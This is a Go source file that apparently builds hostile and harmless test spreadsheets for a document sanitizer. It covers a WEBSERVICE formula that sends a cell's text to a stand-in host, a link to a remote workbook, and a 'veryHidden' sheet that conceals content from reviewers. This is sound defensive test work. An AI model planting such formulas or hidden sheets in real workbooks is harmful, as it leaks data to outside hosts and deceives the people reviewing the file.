package hostile

import (
	"fmt"
	"strings"

	"github.com/seed-40aebabe/placeholder/internal/office/ooxml"
)

var workbookCases = []Case{
	{Info{
		Token: "xlsx-web-formula", Format: "xlsx", Title: "Formula that requests a URL", Verdict: Sanitize, CWE: 918,
		Attack:   "A formula sends the content of a cell to a host as part of a URL.",
		Failure:  "The receiver requests a URL of placeholder.invalid, or resolves that name, when it calculates the sheet.",
		Harmless: "The formula writes the URL into the cell.",
	}, webFormula},
	{Info{
		Token: "xlsx-external-link", Format: "xlsx", Title: "Link to another workbook", Verdict: Sanitize, CWE: 918,
		Attack:   "A formula reads a cell of a workbook at a URL.",
		Failure:  "The receiver requests a URL of placeholder.invalid, or resolves that name, when it updates links.",
		Harmless: "The other workbook is in the same folder.",
	}, externalLink},
	{Info{
		Token: "xlsx-hidden-sheet", Format: "xlsx", Title: "Very hidden sheet", Verdict: Sanitize, CWE: 451,
		Attack:   "The state of a sheet is veryHidden, so Excel neither shows it nor lists it with the hidden sheets.",
		Failure:  "A reviewer sees one sheet, and the program that imports the workbook reads two.",
		Harmless: "The state of the sheet is visible.",
	}, hiddenSheet},
}

// A workbook consists of sheets (ECMA-376, part 1, 18.2.27). The relationships to its sheets come
// first, followed by others.
type workbook struct {
	sheets        []sheet
	entries       string // of the workbook, after the sheets
	relationships []ooxml.Relationship
	parts         []ooxml.Part // in addition
}

type sheet struct {
	name, attributes string
	columns          string // properties of columns
	row              string // cells of the first row
	rows             string // after the first one
}

const spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml."

func (b workbook) file() []byte {
	var list strings.Builder
	var relationships []ooxml.Relationship
	var parts []ooxml.Part
	for i, s := range b.sheets {
		name := fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)
		fmt.Fprintf(&list, `<sheet name="%s" sheetId="%d"%s r:id="rId%[2]d"/>`, s.name, i+1, s.attributes)
		relationships = append(relationships, ooxml.Relationship{Type: "worksheet", Target: name})
		parts = append(parts, ooxml.Part{
			Name: name, Type: spreadsheet + "worksheet+xml",
			Body: ooxml.XML("<worksheet " + sheetNamespaces + ">" + s.columns + `<sheetData><row r="1">` + s.row + "</row>" + s.rows + "</sheetData></worksheet>"),
		})
	}
	main := ooxml.Part{
		Name: "xl/workbook.xml", Type: spreadsheet + "sheet.main+xml", Relationships: append(relationships, b.relationships...),
		Body: ooxml.XML("<workbook " + sheetNamespaces + "><sheets>" + list.String() + "</sheets>" + b.entries + "</workbook>"),
	}
	return officeFile(append(append([]ooxml.Part{main}, parts...), b.parts...)...)
}

// textCell returns a cell with a text.
func textCell(cell, value string) string {
	return fmt.Sprintf(`<c r="%s" t="inlineStr"><is><t>%s</t></is></c>`, cell, value)
}

// formulaCell returns a cell with a formula and the text that it had last.
func formulaCell(cell, expression, value string) string {
	return fmt.Sprintf(`<c r="%s" t="str"><f>%s</f><v>%s</v></c>`, cell, ooxml.Escape(expression), value)
}

// webFormula sends a text. The twin writes the same URL into the cell.
func webFormula(twin bool) []byte {
	call := strings.Join([]string{"_xlfn.WEB", "SERVICE"}, "")
	row := textCell("A1", "Placeholder") + formulaCell("C1", either(twin, "CONCATENATE", call)+`("`+remoteURL+`?"&A1)`, "Placeholder")
	return workbook{sheets: []sheet{{name: "Sheet1", row: row}}}.file()
}

// externalLink has a part that refers to another workbook (18.14.7).
func externalLink(twin bool) []byte {
	const name = "xl/externalLinks/externalLink1.xml"
	link := []ooxml.Relationship{outside("externalLinkPath", either(twin, "placeholder.xlsx", remoteURL))}
	return workbook{
		sheets:        []sheet{{name: "Sheet1", row: textCell("A1", "Placeholder") + formulaCell("C1", "[1]Sheet2!A1", "Placeholder")}},
		entries:       `<externalReferences><externalReference r:id="rId2"/></externalReferences>`,
		relationships: []ooxml.Relationship{{Type: "externalLink", Target: name}},
		parts: []ooxml.Part{{
			Name: name, Type: spreadsheet + "externalLink+xml", Relationships: link,
			Body: ooxml.XML("<externalLink " + sheetNamespaces + `><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet2"/></sheetNames></externalBook></externalLink>`),
		}},
	}.file()
}

// hiddenSheet has a sheet that is shown and one that is hidden. The twin shows both.
func hiddenSheet(twin bool) []byte {
	return workbook{sheets: []sheet{
		{name: "Sheet1", row: textCell("A1", "Placeholder")},
		{name: "Sheet2", row: textCell("A1", Canary), attributes: either(twin, ` state="visible"`, ` state="veryHidden"`)},
	}}.file()
}
